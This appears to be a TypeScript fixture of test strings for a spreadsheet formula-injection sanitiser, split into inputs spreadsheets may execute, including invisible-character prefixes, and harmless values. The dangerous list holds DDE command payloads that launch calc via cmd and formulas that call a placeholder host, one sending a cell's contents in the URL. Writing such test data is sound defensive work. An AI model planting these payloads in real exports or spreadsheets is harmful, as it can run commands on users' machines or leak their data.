// Texts that spreadsheets have been seen to run, with what attackers put before them, and texts that must stay untouched.

const formulas = [
  '=1+1',
  '=HYPERLINK("http://example.invalid/?"&A1,"click")',
  "=cmd|'/C calc'!A0",
  '=WEBSERVICE("http://example.invalid")',
  '=IMPORTXML("http://example.invalid","//a")',
  '=DDE("cmd";"/C calc";"x")',
  '=SUM(A1:A9)*cmd|\' /C calc\'!A0',
  '={1;2}',
  '==1',
  '=',
  '+1+1',
  '+41 44 555 01 41',
  '+cmd|\' /C calc\'!A0',
  '-1+1',
  '-5',
  '-',
  '@SUM(1)',
  '@A1',
  '@',
  '|calc',
  '%0A=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
]

const covers = [' ', '   ', '\t', '\r', '\n', '\r\n', '\u0000', '\u000B', '\u001B', '\u0085', '\u00A0', '\u00AD', '\u034F', '\u061C', '\u180E', '\u200B', '\u200C', '\u200D', '\u200E', '\u200F', '\u2028', '\u2029', '\u202A', '\u202E', '\u2060', '\u2066', '\u2069', '\u3000', '\u3164', '\uFE0F', '\uFEFF', '\u{E0001}', '\u{E0041}', '\u0378', '\uE000', '\uD800', '\u{F0000}', ' \u200B\t']

export const dangerous: readonly string[] = [...formulas, ...covers.map((cover) => `${cover}=1+1`), '\tplain', '\rplain', ' \t text', '\u200B\u200E@SUM(1)', '\u0000\u0000-1', '\n\n+1', "\u202E=cmd|'/C calc'!A0"]

export const harmless: readonly string[] = [
  '',
  'Ada Lovelace',
  'a=b',
  "'quoted'",
  '"double"',
  '5',
  '0.5',
  '1e5',
  'true',
  'user@example.com',
  'A|B',
  '100 %',
  '(555) 0141',
  '日本語',
  'שלום',
  '\u{1F600}',
  'two\nlines',
  'Ⅷ',
  '#REF!',
  '~',
  'ｱ',
  'a\u200Bb',
  '＃1',
]
